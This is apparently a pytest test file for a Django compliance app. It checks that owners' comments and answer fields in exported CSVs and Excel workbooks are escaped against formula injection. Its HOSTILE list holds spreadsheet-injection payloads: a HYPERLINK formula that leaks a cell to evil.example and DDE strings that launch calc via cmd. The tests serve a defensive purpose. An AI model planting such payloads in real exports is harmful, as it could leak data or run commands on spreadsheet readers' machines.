"""One escaping rule for every spreadsheet-bound export (``cek.spreadsheet``): owners' comments in the campaign
results CSV and the CEK-11.1 answer's CSV and workbook can't be turned into formulas against their reader."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cek.spreadsheet import spreadsheet_safe, spreadsheet_unescape
from evidence.answers import export
from evidence.answers.services import answer_generate, answer_update
from evidence.campaigns.services import attestation_report_discrepancy, campaign_close, campaign_create, campaign_launch
from evidence.models import Attestation
from tests.conftest import login
from tests.evidence.caiq import key_policy, make_run, us
from tests.factories import KeyFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", [*HOSTILE, "'=already quoted"])
def test_the_rule_prefixes_formula_starts_and_round_trips(value):
    escaped = spreadsheet_safe(value)
    assert escaped == "'" + value
    assert spreadsheet_unescape(escaped) == value


@pytest.mark.parametrize("value", ["plain text", "ops 3-4", "a=b", "", "1.5", "Ünïcode"])
def test_the_rule_leaves_other_text_alone(value):
    assert spreadsheet_safe(value) == value


# --- Campaign results CSV ---------------------------------------------------------------------------------


@pytest.mark.parametrize("comment", HOSTILE)
def test_an_owners_comment_in_the_results_csv_never_runs_and_the_digest_matches_what_is_served(
    comment, grc_user, owner, auditor
):
    key = KeyFactory(owner=owner, name="=key-name")
    # Forms strip leading whitespace from comments; a store name written by any other path keeps it.
    type(key.store).objects.filter(pk=key.store_id).update(name=comment)
    drafted = campaign_create(actor=grc_user, name="Q4", due_on=timezone.localdate() + dt.timedelta(days=7))
    campaign = campaign_launch(campaign=drafted, actor=grc_user)
    attestation_report_discrepancy(attestation=Attestation.objects.get(campaign=campaign), actor=owner, comment=comment)
    closed = campaign_close(campaign=campaign, actor=grc_user)
    response = login(auditor).get(reverse("evidence:campaign-export", args=[closed.pk]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert hashlib.sha256(body).hexdigest() == closed.results_sha256
    row = next(csv.DictReader(io.StringIO(body.decode(), newline="")))
    stored = Attestation.objects.get().comment
    assert stored.lstrip("\t\r") == comment.lstrip("\t\r")
    assert row["comment"] == "'" + stored
    assert row["store"] == "'" + comment
    assert row["key"] == "'=key-name"


# --- CEK-11.1 answer CSV and XLSX -------------------------------------------------------------------------


@pytest.fixture
def draft(grc_user):
    key_policy(grc_user)
    make_run()
    return answer_generate(party=us(), actor=grc_user)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_answer_csv_escapes_columns_e_and_f(value, draft, grc_user):
    answer = answer_update(draft, actor=grc_user, implementation=value, customer_responsibilities=value)
    answer.customer_responsibilities = value  # as written, whatever the form's cleaning keeps
    row = list(csv.reader(io.StringIO(export.to_csv(answer), newline="")))[1]
    # Column E is the description stripped of outer whitespace (then the disclosures); F is kept as written.
    assert row[4] == "'" + export.column_e(answer)
    assert row[5] == "'" + value
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_answer_workbook_keeps_columns_e_and_f_as_text(value, draft, grc_user):
    answer = answer_update(draft, actor=grc_user, implementation=value, customer_responsibilities=value)
    answer.customer_responsibilities = value
    sheet = load_workbook(io.BytesIO(export.to_xlsx(answer)))["AI-CAIQv1.1.0"]
    for coordinate, expected in (("E3", export.column_e(answer)), ("F3", value)):
        assert sheet[coordinate].data_type == "s", coordinate  # a string, never a formula ("f")
        assert sheet[coordinate].value == expected.replace("\r", "\n")  # XML reads a bare CR as LF
